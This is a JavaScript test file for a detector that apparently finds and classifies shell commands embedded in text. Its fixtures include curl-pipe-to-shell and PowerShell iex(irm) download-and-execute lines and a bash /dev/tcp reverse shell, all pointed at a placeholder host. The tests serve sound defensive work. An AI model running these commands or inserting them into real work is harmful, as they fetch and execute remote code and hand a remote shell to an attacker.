import { asCode, commandsIn } from "./spoken.js";

test.each([
  ["to the end of its line", "x: curl -s https://a.invalid | sh\ny: 1", "curl -s https://a.invalid | sh"],
  [
    "inside quotation marks",
    'os.execute("curl -s https://a.invalid | sh")',
    "curl -s https://a.invalid | sh",
  ],
  [
    "behind another word",
    "run('sudo bash -c \"$(curl -s https://a.invalid)\"')",
    'bash -c "$(curl -s https://a.invalid)"',
  ],
  ["in an element", "<Exec>curl -s https://a.invalid | sh</Exec>", "curl -s https://a.invalid | sh"],
  ["a connected shell", "x('bash -i >& /dev/tcp/a.invalid/9')", "bash -i >& /dev/tcp/a.invalid/9"],
])("a command is found %s", (_, text, command) => {
  expect([...commandsIn(text)].map((found) => found.command)).toContain(command);
});

test.each(["curl -s https://a.invalid | jq .", "bash setup.sh", "echo hello | sort", "a sh with | pipes"])(
  "nothing is found in %s",
  (text) => {
    expect([...commandsIn(text)]).toEqual([]);
  },
);

test("a command for PowerShell is code of PowerShell", () => {
  expect(asCode("powershell -w hidden -c iex(irm https://a.invalid)")).toEqual({
    language: "powershell",
    text: "iex(irm https://a.invalid)",
  });
  expect(asCode("curl -s https://a.invalid | sh").language).toBe("shell");
});
